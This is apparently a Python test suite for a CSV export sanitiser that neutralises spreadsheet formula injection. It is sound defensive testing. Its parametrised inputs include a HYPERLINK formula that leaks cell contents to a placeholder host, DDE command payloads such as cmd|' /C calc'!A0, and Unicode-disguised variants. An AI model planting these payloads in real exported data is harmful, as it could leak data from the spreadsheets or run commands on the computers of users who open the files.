import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leadscenter.lib.cells import csv_line, quoted, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "-cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b=1",
        "\u202e=1",
        "\x00=1",
        "＝1",
        "＋cmd",
        "－cmd",
        "＠SUM",
        "﹢cmd",
        "\t=1",
        "\r=1",
        "\n1",
        "-1+cmd|' /C calc'!A0",
        "+65 9123=1",
        "--1",
    ],
)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Ann",
        "Zoë",
        "+6591234567",
        "+1 (415) 555-0100",
        "-5",
        "-5.25",
        "a=b",
        "'=1",
        "1=1",
        "  spaces",
        "李",
        "·",
        '"',
    ],
)
def test_what_runs_nothing_stays_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_a_safe_cell_stays_the_same_when_made_safe_again(value: str) -> None:
    assert safe_cell(safe_cell(value)) == safe_cell(value)


@given(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1))
def test_a_line_is_read_back_as_the_same_cells(values: list[str | int | None]) -> None:
    line = csv_line(values)
    read = list(csv.reader(io.StringIO(line, newline="")))
    assert read == [["" if value is None else safe_cell(str(value)) for value in values]]


def test_every_cell_is_quoted_and_the_line_ends_in_crlf() -> None:
    assert csv_line(["a;=1+1", 'say "hi"', "two\nlines", None, 7]) == '"a;=1+1","say ""hi""","two\nlines","","7"\r\n'


@given(st.text(max_size=40))
def test_the_short_way_of_a_cell_gives_what_the_line_gives(value: str) -> None:
    assert quoted(value) + "\r\n" == csv_line([value])


@pytest.mark.parametrize(
    "value", ["", "a", "=1", "+49 151", "+1=1", "-2", "-2x", 'a"b', "1;=2", "\t=1", "é", "٣", "a\nb", "+", "1\n"]
)
def test_the_short_way_of_a_cell_is_as_careful(value: str) -> None:
    assert quoted(value) + "\r\n" == csv_line([value])
